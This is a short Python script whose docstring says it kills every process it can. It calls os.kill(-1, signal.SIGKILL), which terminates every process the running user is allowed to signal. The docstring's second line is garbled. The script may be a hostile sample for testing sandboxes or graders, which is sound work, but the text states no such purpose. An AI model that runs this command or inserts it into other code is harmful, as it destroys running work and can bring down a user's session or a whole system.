"""Kills every process that it can.

program; fools naive: next.
"""

import os
import signal

os.kill(-1, signal.SIGKILL)
